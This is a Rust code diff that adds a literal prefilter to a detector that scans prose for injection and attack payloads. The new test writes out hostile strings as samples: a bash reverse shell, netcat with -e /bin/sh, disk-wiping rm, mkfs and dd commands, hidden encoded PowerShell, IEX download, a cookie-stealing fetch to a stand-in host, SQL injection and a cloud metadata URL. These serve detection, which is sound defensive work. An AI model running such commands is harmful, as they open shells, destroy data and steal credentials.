@@ -295,6 +295,73 @@ static PROSE_SET: LazyLock<Option<RegexSet>> = LazyLock::new(|| {
     .ok()
 });
 
+/// Literals (ASCII case ignored) of which every prose shape holds one: a text with none of them
+/// is not searched. Kept beside [`IN_PROSE`] and [`PROSE_SQL`]; the test
+/// `every_prose_shape_needs_a_literal` holds them to the shapes.
+const PROSE_LITERALS: &[&str] = &[
+    // SQL
+    "union",
+    "drop",
+    "truncate",
+    "delete",
+    // paths
+    "../",
+    "..\\",
+    "%2e",
+    "..%",
+    // shells
+    "/dev/",
+    "nc ",
+    "nc\t",
+    "ncat",
+    "netcat",
+    "bash",
+    "mkfifo",
+    "$(",
+    // deletes and disks
+    "rm -",
+    "rm\t",
+    "rm  ",
+    "rm\n",
+    "no-preserve",
+    "\"rm\"",
+    "mkfs",
+    "if=/dev/",
+    " c:",
+    "\tc:",
+    "\nc:",
+    // PowerShell
+    "powershell",
+    "pwsh",
+    "iex",
+    "downloadstring",
+    // scripts
+    "cookie",
+    "storage",
+    "sendbeacon",
+    "xmlhttprequest",
+    "fetch",
+    "submit",
+    "document.forms",
+    "image",
+    "location",
+    "eval",
+    "atob",
+    // metadata addresses
+    "169.254",
+    "metadata",
+    "100.100.100.200",
+    "fd00:ec2",
+    "2852039166",
+];
+
+static PROSE_NEEDS: LazyLock<Option<aho_corasick::AhoCorasick>> = LazyLock::new(|| {
+    aho_corasick::AhoCorasick::builder()
+        .ascii_case_insensitive(true)
+        .build(PROSE_LITERALS)
+        .ok()
+});
+
 /// Words before a payload, in its sentence, that make it something named rather than asked
 /// for: a negation, a guard ("blocks", "rejects", "escapes"), an example's introduction.
 const GUARD_BEFORE: &[&str] = &[
@@ -430,6 +497,10 @@ pub fn find_in_prose(text: &str) -> Option<(usize, usize, Kind)> {
     let v = text
         .get(..text.floor_char_boundary(MAX_PROSE))
         .unwrap_or("");
+    // Most prose holds none of the words every shape needs: one literal pass passes it over.
+    if !PROSE_NEEDS.as_ref().is_some_and(|ac| ac.is_match(v)) {
+        return None;
+    }
     let set = PROSE_SET.as_ref()?;
     if !set.is_match(v) {
         return None;
@@ -545,6 +616,35 @@ mod tests {
         // Bounded: a long value is read only so far.
         let long = format!("{}{}", "a".repeat(MAX_VALUE), "; DROP TABLE t");
         assert_eq!(find(&long), None);
+    }
+
+    #[test]
+    fn every_prose_shape_needs_a_literal() {
+        let found = [
+            "x' UNION SELECT pw FROM users",
+            "../../../../x",
+            "..\\..\\..\\..\\x",
+            "..%2f..%2fetc",
+            "bash -i >& /dev/tcp/192.0.2.1/1 0>&1",
+            "nc 192.0.2.1 9 -e /bin/sh",
+            "echo $(curl https://x.test)",
+            "then rm -rf ~/.* now",
+            "mkfs.ext4 /dev/sda1",
+            "dd if=/dev/zero of=/dev/sda",
+            "format c:",
+            "powershell -nop -w hidden -enc SQBFAFgAIABoAGUAbABsAG8A",
+            "IEX (New-Object Net.WebClient)",
+            "<img onerror=\"fetch('https://x.test/?c='+document.cookie)\">",
+            "append `'; DROP TABLE audit; --`",
+            "http://169.254.169.254/latest",
+        ];
+        for t in found {
+            assert!(find_in_prose(t).is_some(), "{t}");
+            assert!(PROSE_NEEDS.as_ref().is_some_and(|ac| ac.is_match(t)), "{t}");
+        }
+        // Ordinary prose is passed over by the literal pass alone.
+        let plain = "Returns the customer's open invoices, newest first, with their totals.";
+        assert!(!PROSE_NEEDS.as_ref().is_some_and(|ac| ac.is_match(plain)));
     }
 
     #[test]
